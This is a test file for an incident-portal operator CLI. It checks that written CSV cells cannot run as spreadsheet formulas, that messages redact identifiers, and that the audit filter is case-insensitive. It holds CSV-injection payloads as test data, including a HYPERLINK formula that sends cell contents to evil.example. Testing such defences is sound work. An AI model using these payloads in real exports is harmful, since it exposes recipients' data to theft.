/**
 * What the operator CLI writes and prints, against the running portal's local D1:
 * - no CSV cell it writes can run as a spreadsheet formula (notices.csv, `audit --csv`, `stats --csv`);
 * - no message, error or summary carries an identifier, however malformed the file it read;
 * - the audit filter finds an agent under any spelling.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, inject, it } from 'vitest';
import { csvSafe } from '../../src/cli/csv-safe.ts';
import { openD1 } from '../../src/cli/d1/open.ts';
import { operatorMessage } from '../../src/cli/redact.ts';
import { cli, scratchDir } from '../support/portal.ts';

const baseURL = inject('baseURL');
const stateDir = inject('stateDir');
const work = scratchDir('cli-output');

/** The CLI's stdout and stderr together, whether it succeeded or failed. */
async function output(...args: string[]): Promise<{ ok: boolean; text: string }> {
  try {
    const { stdout, stderr } = await cli(...args);
    return { ok: true, text: `${stdout}\n${stderr}` };
  } catch (err) {
    const { stdout, stderr } = err as { stdout: string; stderr: string };
    return { ok: false, text: `${stdout}\n${stderr}` };
  }
}

function file(name: string, text: string): string {
  const path = join(work, name);
  writeFileSync(path, text);
  return path;
}

/** The characters that start a formula in Excel, LibreOffice or Sheets (OWASP), and the full-width ones. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

describe('spreadsheet formulas in the CSV files the CLI writes', () => {
  it('csvSafe prefixes a quote to exactly the cells a spreadsheet would run', () => {
    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1', '－1', '＠SUM(A1)', '=HYPERLINK("https://evil.example")']) {
      expect(csvSafe(cell)).toBe(`'${cell}`);
    }
    for (const cell of ['', 'affected@example.com', 'Sample Coffee Online', '1-2', "'=already text", ' =1', 'ja']) {
      expect(csvSafe(cell)).toBe(cell);
    }
  });

  it('writes notices.csv with no cell that starts a formula, an address starting with = included', async () => {
    const label = '=HYPERLINK("https://evil.example/?"&A2,"Click here")';
    const recipients = file(
      'formula-recipients.csv',
      [
        'email,locale,store',
        '=formula-1@example.com,en,',
        `formula-2@example.com,ja,"${label.replaceAll('"', '""')}"`,
        '＋formula-3@example.com,en,＠SUM(A1)',
        '-formula-4@example.com,ja,+cmd',
      ].join('\n'),
    );
    const out = join(work, 'formula-notices.csv');
    await cli('notices', '--incident', 'demo', '--recipients', recipients, '--out', out, '--base-url', baseURL);
    const rows: string[][] = parse(readFileSync(out), { relax_quotes: false });
    expect(rows.length).toBe(5);
    for (const row of rows) for (const cell of row) expect(cell, cell.slice(0, 40)).not.toMatch(FORMULA_START);
    expect(rows.slice(1).map((r) => r[0])).toEqual(["'=formula-1@example.com", 'formula-2@example.com', "'＋formula-3@example.com", "'-formula-4@example.com"]);
    // The label still reaches the body, where it is not at the start of a cell.
    expect(rows[2]![7]).toContain(label);
  });

  it('writes `audit --csv` with no cell that starts a formula, whatever the identity provider sent', async () => {
    const agent = `=cmd-${process.pid}@example.com`;
    // An audit row as an Access identity that starts with "=" would leave it.
    const local = await openD1({ persistTo: stateDir });
    try {
      local.sqlite.prepare(`INSERT INTO agent_audit (at, agent, action, incident, code_hash, answer) VALUES (?, ?, 'contact_code', 'demo', ?, 'issued')`).run(
        new Date().toISOString(),
        agent,
        new Uint8Array(32),
      );
    } finally {
      await local.close();
    }
    const { stdout } = await cli('audit', '--agent', agent, '--csv');
    const rows: string[][] = parse(stdout);
    expect(rows.length).toBe(2);
    expect(rows[1]![1]).toBe(`'${agent}`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    const stats: string[][] = parse((await cli('stats', '--csv')).stdout);
    for (const row of stats) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('no identifier in any CLI message', () => {
  const email = 'broken-quote@example.com';
  const orderId = 'ORD-88888';
  const needles = [email, orderId, 'stray-quote', 'headerless', 'ORD-77777', 'ORD-66666'];
  const clean = (text: string) => {
    for (const needle of needles) expect(text.toLowerCase()).not.toContain(needle.toLowerCase());
  };

  it('notices: a broken quote on a line with an address and an order ID is reported by line only', async () => {
    const recipients = file(
      'broken-quote.csv',
      ['email,locale,store,order_id', 'fine@example.com,en,,', `"${email},ja,Store,${orderId}`, 'other@example.com,en,,'].join('\n'),
    );
    const result = await output('notices', '--incident', 'demo', '--recipients', recipients, '--out', join(work, 'broken-out.csv'), '--base-url', baseURL);
    expect(result.ok).toBe(true);
    // csv-parse finds the unclosed quote where the file ends: the row and all after it are one fault.
    expect(result.text).toContain('malformed_csv: 1 (lines 4)');
    clean(result.text);
  });

  it('notices: a stray quote inside a field, and a row with too many fields', async () => {
    const recipients = file(
      'stray-quote.csv',
      ['email,locale,store', 'fine@example.com,en,', 'stray"-quote@example.com,ja,', `${email},ja,Store,${orderId}`].join('\n'),
    );
    const result = await output('notices', '--incident', 'demo', '--recipients', recipients, '--out', join(work, 'stray-out.csv'), '--base-url', baseURL);
    expect(result.text).toContain('malformed_csv: 2 (lines 3, 4)');
    clean(result.text);
  });

  it('notices: a file without a header row is refused without echoing its first row', async () => {
    const recipients = file('headerless.csv', `headerless@example.com,ja,ORD-77777\n${email},en,${orderId}\n`);
    const result = await output('notices', '--incident', 'demo', '--recipients', recipients, '--out', join(work, 'headerless-out.csv'), '--base-url', baseURL);
    expect(result.ok).toBe(false);
    expect(result.text).toContain('"email" column');
    clean(result.text);
  });

  it('import: a list without a header row, and one with a broken quote, name no value', async () => {
    const headerless = file('headerless-list.csv', `headerless-list@example.com,ORD-66666,members\n${email},${orderId},cards\n`);
    const refused = await output('import', '--incident', 'demo', '--file', headerless, '--dry-run');
    expect(refused.ok).toBe(false);
    expect(refused.text).toContain('The first line is not a header row');
    clean(refused.text);

    const broken = file('broken-list.csv', ['email,order_id,groups', 'fine@example.com,,members', `"${email},${orderId},cards`].join('\n'));
    const dry = await output('import', '--incident', 'demo', '--file', broken, '--dry-run');
    expect(dry.text).toContain('malformed_csv');
    clean(dry.text);
  });

  it('maps csv-parse errors to a line and a kind, and scrubs values from messages of unknown origin', () => {
    const faults: [string, RegExp][] = [
      [`email,locale\nstray"-quote@example.com,ja\n`, /^The CSV file cannot be read at line 2: .+ \(INVALID_OPENING_QUOTE\)\.$/],
      [`email,locale\n"${email}"x,ja\n`, /^The CSV file cannot be read at line 2: .+ \(CSV_INVALID_CLOSING_QUOTE\)\.$/],
      [`email,locale\n"${email},ja\n`, /^The CSV file cannot be read at line 2: .+ \(CSV_QUOTE_NOT_CLOSED\)\.$/],
      [`email,locale\n${email},ja,${orderId}\n`, /^The CSV file cannot be read at line 2: .+ \(CSV_RECORD_INCONSISTENT_FIELDS_LENGTH\)\.$/],
    ];
    for (const [text, expected] of faults) {
      let thrown: unknown;
      try {
        parse(text);
      } catch (err) {
        thrown = err;
      }
      expect(thrown).toBeInstanceOf(Error);
      const message = operatorMessage(thrown);
      expect(message).toMatch(expected);
      clean(message);
    }
    const unknown = operatorMessage(new Error(`row for ＢＲＯＫＥＮ＠example.com: bad value "${orderId}" near K7QM3XTR9HWD, see 'stray-quote'`));
    expect(unknown).toBe('row for …: bad value "…" near …, see \'…\'');
    expect(operatorMessage(new TypeError(`${email}`))).toBe('…');
  });

  it('keeps the project’s own messages as written', async () => {
    const result = await output('audit', '--from', '2026-13-45');
    expect(result.ok).toBe(false);
    expect(result.text).toContain('Error: --from must be a date like 2026-11-21 (got "2026-13-45").');
  });
});

describe('audit filter', () => {
  it('finds a development agent’s rows under any spelling of the name', async () => {
    const name = `Mixed Case ${Date.now().toString(36)}`;
    const signIn = await fetch(`${baseURL}/agent/sign-in`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: baseURL },
      body: new URLSearchParams({ name }).toString(),
    });
    expect(signIn.status).toBe(303);
    const cookie = signIn.headers.get('set-cookie')!.split(';')[0]!;
    const lookup = await fetch(`${baseURL}/agent`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: baseURL, cookie },
      body: new URLSearchParams({ incident: 'demo', email: 'nobody@example.com' }).toString(),
    });
    expect(lookup.status).toBe(200);
    for (const spelling of [`dev:${name}`, `DEV:${name.toUpperCase()}`, `dev:${name.toLowerCase()}`]) {
      const rows: Record<string, string>[] = parse((await cli('audit', '--agent', spelling, '--csv')).stdout, { columns: true });
      expect(rows.map((r) => [r.agent, r.action, r.answer])).toEqual([[`dev:${name.toLowerCase()}`, 'lookup', 'not_affected']]);
    }
  });
});
